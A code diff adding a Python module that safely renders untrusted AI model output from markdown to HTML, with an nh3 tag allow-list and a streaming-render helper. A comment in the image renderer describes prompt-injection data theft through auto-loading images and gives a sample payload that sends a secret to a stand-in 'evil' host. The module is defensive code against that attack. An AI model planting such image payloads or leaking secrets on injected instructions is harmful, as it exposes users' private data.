@@ -1,0 +1,111 @@
+"""The one renderer of message text: markdown to HTML, then an nh3 allow-list.
+
+Model output is untrusted. Raw HTML in markdown is not rendered (it shows as
+text), and whatever the markdown produces passes the allow-list below, so the
+same inert HTML reaches the live stream, the history, the admin and exports.
+Content is stored verbatim; sanitising happens here, on output.
+"""
+
+from __future__ import annotations
+
+import html as html_lib
+
+import nh3
+from markdown_it import MarkdownIt
+from pygments import highlight
+from pygments.formatters import HtmlFormatter
+from pygments.lexers import get_lexer_by_name
+from pygments.util import ClassNotFound
+
+ALLOWED_TAGS = {
+    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "s",
+    "blockquote", "ul", "ol", "li", "pre", "code", "span", "div", "a",
+    "table", "thead", "tbody", "tr", "th", "td",
+}  # fmt: skip
+ALLOWED_ATTRIBUTES = {
+    "a": {"href", "title"},
+    "code": {"class"},
+    "span": {"class"},
+    "div": {"class"},
+    "pre": {"class"},
+    "ol": {"start"},
+}
+URL_SCHEMES = {"http", "https", "mailto"}
+LINK_REL = "noopener noreferrer nofollow"
+
+_formatter = HtmlFormatter(nowrap=True)
+
+
+def _highlight(code: str, lang: str, _attrs: object) -> str:
+    try:
+        lexer = get_lexer_by_name(lang) if lang else None
+    except ClassNotFound:
+        lexer = None
+    if lexer is None:
+        return ""  # markdown-it escapes the code itself
+    return highlight(code, lexer, _formatter)
+
+
+def _render_image(tokens, idx, options, env) -> str:
+    # Images are the exfiltration channel of prompt injection
+    # (![x](https://evil/?q=<secret>) loads by itself); show a link instead,
+    # which a person has to choose to follow.
+    token = tokens[idx]
+    src = html_lib.escape(token.attrGet("src") or "", quote=True)
+    alt = html_lib.escape(token.content or "image", quote=True)
+    return f'<a href="{src}">[image: {alt}]</a>'
+
+
+_md = MarkdownIt("commonmark", {"html": False, "linkify": False, "highlight": _highlight})
+_md.enable(["table", "strikethrough"])
+_md.add_render_rule("image", _render_image)
+
+
+def sanitize(html: str) -> str:
+    """The single allow-list every piece of HTML derived from message text passes."""
+    return nh3.clean(
+        html,
+        tags=ALLOWED_TAGS,
+        attributes=ALLOWED_ATTRIBUTES,
+        url_schemes=URL_SCHEMES,
+        link_rel=LINK_REL,
+        strip_comments=True,
+    )
+
+
+def render_markdown(text: str) -> str:
+    """Markdown text (untrusted) to sanitised HTML."""
+    if not text:
+        return ""
+    return sanitize(_md.render(text))
+
+
+def stable_prefix_length(text: str) -> int:
+    """Length of the leading part of a streaming reply whose markdown blocks are
+    finished: everything up to the last blank line outside a code fence.
+
+    Blocks before that point render the same whatever follows (apart from
+    reference links, which the final render fixes), so the live view renders
+    them once each and shows only the unfinished tail as plain text.
+    """
+    in_fence = False
+    fence = ""
+    stable = 0
+    position = 0
+    for line in text.splitlines(keepends=True):
+        position += len(line)
+        if not line.endswith("\n"):
+            break  # an unfinished last line is never stable
+        stripped = line.strip()
+        if in_fence:
+            if stripped.startswith(fence) and stripped.strip(fence[0]) == "":
+                in_fence = False
+                stable = position
+            continue
+        if stripped.startswith(("```", "~~~")):
+            in_fence = True
+            fence = stripped[:3]
+            continue
+        if stripped == "":
+            stable = position
+    return stable
